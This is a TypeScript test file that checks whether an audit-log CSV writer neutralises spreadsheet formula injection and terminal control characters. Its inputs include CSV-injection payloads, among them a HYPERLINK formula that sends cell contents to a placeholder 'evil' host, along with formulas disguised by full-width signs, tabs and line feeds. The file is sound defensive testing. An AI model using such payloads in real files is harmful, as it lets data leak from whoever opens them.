import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { csvLine } from '../../../agent/audit/csv.ts'
import { canonicalJson } from '../../../model/json.ts'
import { hostileText, isPlain } from '../../hostile-text.ts'

const FORMULA = /^[\s"']*[=+\-@\uff1d\uff0b\uff0d\uff20]/

/** The cells of a line as RFC 4180 divides it. */
function cellsOf(line: string): string[] {
  const cells = line.replace(/\r\n$/, '').matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)
  return [...cells].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  )
}

const isFormula = (cell: string) =>
  FORMULA.test(cell) && !cell.trimStart().startsWith("'") && !/^-?\d+$/.test(cell)

for (const [what, text] of [
  ['an equals sign', '=1+1'],
  [
    'a formula after a semicolon, which divides cells where the comma is for decimals',
    'see;=HYPERLINK("http://evil/?"&A1;"x")',
  ],
  ['a formula in quotes after a semicolon', 'see;"=1+1"'],
  ['a line feed before it', '\n=1+1'],
  ['spaces before it', '  =1+1'],
  ['full-width signs', '＝1＋1'],
  ['a tab', '\t@SUM(1)'],
  ['a vertical bar', 'a|=1+1'],
] as const) {
  test(`${what}: no spreadsheet takes it for a formula, whatever divides its cells`, () => {
    const line = csvLine(canonicalJson({ seq: 1, reason: text, detail: text, kind: text }))
    assert.equal(cellsOf(line).filter(isFormula).length, 0, line)
    for (const divider of [';', '|', '\t'])
      assert.equal(line.trimEnd().split(divider).filter(isFormula).length, 0, `${divider} in ${line}`)
  })
}

test('the last cell is the whole record, as JSON; no cell steers a terminal, and a record is one line', () => {
  fc.assert(
    fc.property(hostileText, hostileText, (reason, name) => {
      const record = canonicalJson({ seq: 1, reason, [name]: reason })
      const line = csvLine(record)
      assert.deepEqual(
        JSON.parse(
          cellsOf(line)
            .filter(cell => cell !== '')
            .at(-1) ?? '',
        ),
        JSON.parse(record),
      )
      assert.ok(
        isPlain(line.replace(/\r\n$/, '')) && line.indexOf('\n') === line.length - 1,
        JSON.stringify(line),
      )
    }),
  )
})
